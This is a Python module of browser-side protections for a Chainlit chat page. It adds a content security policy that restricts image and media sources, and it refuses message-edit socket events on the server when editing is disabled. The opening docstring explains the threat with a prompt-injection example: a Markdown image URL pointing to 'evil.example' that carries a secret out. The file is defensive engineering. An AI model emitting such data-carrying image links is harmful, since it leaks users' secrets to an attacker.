"""Browser-side protections for the chat page.

A prompt injection can make the model write a Markdown image whose URL carries data out
(`![](https://evil.example/?q=SECRET)`): the browser would fetch it the moment the answer renders.
The chat page's content security policy only lets images and media come from the app itself (and
`data:`/`blob:` URLs the page makes), so such an image is never requested; everything else in
Chainlit's page is left as it is.

Editing a sent message is off (`[features] edit_message = false`): the engine's thread would keep
the original and its answer while the chat showed the edit. Chainlit's page then offers no edit,
but its server still acts on an `edit_message` event that a hand-made socket client sends; the
chat refuses such events on the server too (`refuse_disabled_edits`).
"""

from __future__ import annotations

import logging
from typing import Any

import socketio
from chainlit.config import config
from fastapi import FastAPI
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

PAGE_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; base-uri 'self'"


class PagePolicyMiddleware:
    """Adds `PAGE_POLICY` to every HTML response that has no content security policy of its own.

    A plain ASGI middleware: it only looks at the response's start message, so the body of every
    response (the `/v1` event streams included) passes straight through. Starlette's
    `@app.middleware("http")` would relay each body chunk through a memory stream and an extra
    task, which cost more than the rest of a streamed token's path together.
    """

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                if headers.get("content-type", "").startswith("text/html"):
                    headers.setdefault("content-security-policy", PAGE_POLICY)
            await send(message)

        await self.app(scope, receive, send_with_policy)


def protect_pages(app: FastAPI) -> None:
    """Give every HTML page the app serves the image-and-media content security policy."""
    app.add_middleware(PagePolicyMiddleware)


log = logging.getLogger(__name__)


def refuse_disabled_edits(sio: socketio.AsyncServer) -> None:
    """Act on `edit_message` socket events only while the app's config allows editing.

    Chainlit's own handler would otherwise rewrite the message and remove every later one from the
    chat's view, then hand the edit to `on_message` as a new message (or `None`, for an id that is
    not in the chat, which failed with a traceback): a chat that disagrees with the database.
    """
    namespace = "/"
    chainlits = sio.handlers[namespace]["edit_message"]

    async def edit_message(sid: str, payload: Any) -> None:
        if not config.features.edit_message:
            log.warning("refused an edit_message event on socket %s: editing messages is disabled", sid)
            return
        await chainlits(sid, payload)

    sio.on("edit_message", edit_message, namespace=namespace)
